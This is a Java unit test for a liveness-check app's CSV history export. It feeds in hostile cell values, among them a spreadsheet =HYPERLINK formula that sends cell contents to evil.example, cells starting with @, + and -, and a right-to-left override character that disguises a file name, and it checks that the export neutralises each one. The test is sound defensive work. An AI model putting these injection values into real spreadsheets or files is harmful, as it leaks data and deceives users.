package dev.livenessdesk.store;

import static dev.livenessdesk.store.StoreFixtures.id;
import static dev.livenessdesk.store.StoreFixtures.session;
import static org.assertj.core.api.Assertions.assertThat;

import dev.livenessdesk.core.history.HistoryExportFormat;
import dev.livenessdesk.core.session.FeedbackItem;
import dev.livenessdesk.core.session.SessionResults;
import dev.livenessdesk.core.session.SessionStatus;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The History tab's CSV export from the real database file, with what a person's own client, a profile name and
 * a lying service can put in it: nothing a spreadsheet would run, nothing drawn reversed.
 */
class HistoryExportSpreadsheetTest {

    private static final Instant NOW = Instant.parse("2025-03-01T10:15:30Z");
    private static final Clock CLOCK = Clock.fixed(NOW, ZoneOffset.UTC);

    @TempDir
    Path folder;

    @Test
    void hostileCellsAreNeutralisedAndShownInTheHistoryCsv() throws Exception {
        Path target = folder.resolve("export.csv");
        try (LocalDatabase database = LocalDatabase.open(folder, CLOCK)) {
            SqliteSessionHistory history = new SqliteSessionHistory(database, CLOCK);
            history.add(session(id(1), NOW, "liveness-out"), Optional.of("@qa"));
            history.updateResult(id(1), new SessionResults(id(1), SessionStatus.SUCCEEDED, "SUCCEEDED",
                    Optional.of(41.5f), Optional.empty(), List.of(), Optional.empty(), Optional.empty(),
                    List.of(new FeedbackItem("+CODE", "hm"), new FeedbackItem("LOW_LIGHTING_DETECTED", "dim")),
                    Optional.of("=HYPERLINK(\"http://evil.example/?\"&A2,\"Details\")")));
            history.add(session(id(2), NOW.plusSeconds(1), null), Optional.of("-2+3"));
            history.updateResult(id(2), new SessionResults(id(2), SessionStatus.FAILED, "FAILED",
                    Optional.of(3f), Optional.empty(), List.of(), Optional.empty(), Optional.empty(),
                    List.of(), Optional.of("\u202Egnp.exe\u0001")));

            history.export(history.list(), HistoryExportFormat.CSV, target);
        }

        assertThat(Files.readAllLines(target, StandardCharsets.UTF_8)).containsExactly(
                "sessionId,createdAt,profile,region,bucket,keyPrefix,auditImagesLimit,lastStatus,confidence,"
                        + "lastChecked,feedbackCodes,clientSdk",
                id(2) + ",2025-03-01T10:15:31Z,\"'-2+3\",eu-west-1,,,2,FAILED,3.0,2025-03-01T10:15:30Z,,"
                        + "[U+202E]gnp.exe[U+0001]",
                id(1) + ",2025-03-01T10:15:30Z,\"'@qa\",eu-west-1,liveness-out,checks/,2,SUCCEEDED,41.5,"
                        + "2025-03-01T10:15:30Z,\"'+CODE;LOW_LIGHTING_DETECTED\","
                        + "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"Details\"\")\"");
    }
}
